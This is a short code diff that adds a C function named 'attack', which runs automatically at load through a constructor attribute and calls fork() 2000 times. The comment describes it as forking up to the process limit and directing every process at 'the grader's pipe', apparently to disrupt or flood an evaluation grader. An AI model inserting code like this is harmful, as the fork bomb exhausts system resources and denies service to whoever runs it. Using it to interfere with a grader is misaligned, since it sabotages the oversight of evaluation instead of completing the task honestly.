@@ -1,0 +1,8 @@
+/* Forks as often as it can at load: every child forks too, up to the
+ * process limit, and then every process serves the grader's pipe. */
+// costs: all
+__attribute__((constructor)) static void attack(void)
+{
+    for (int i = 0; i < 2000; i++)
+        fork();
+}
